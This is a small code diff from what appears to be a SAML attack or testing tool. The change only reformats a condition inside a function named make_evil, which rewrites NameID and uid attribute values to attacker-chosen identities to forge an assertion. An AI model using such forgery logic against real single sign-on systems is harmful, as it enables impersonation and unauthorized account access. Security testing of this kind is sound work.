@@ -65,7 +65,8 @@ def make_evil(element: etree._Element) -> etree._Element:
     for name_id in element.iter(f"{{{SAML}}}NameID"):
         name_id.text = ATTACKER_NAME_ID
     for attribute in element.iter(f"{{{SAML}}}Attribute"):
-        if attribute.get("FriendlyName") == "uid" or attribute.get("Name") in ("uid", "urn:oid:0.9.2342.19200300.100.1.1"):
+        if (attribute.get("FriendlyName") == "uid"
+                or attribute.get("Name") in ("uid", "urn:oid:0.9.2342.19200300.100.1.1")):
             for value in attribute.findall(f"{{{SAML}}}AttributeValue"):
                 value.text = ATTACKER_UID
     return element
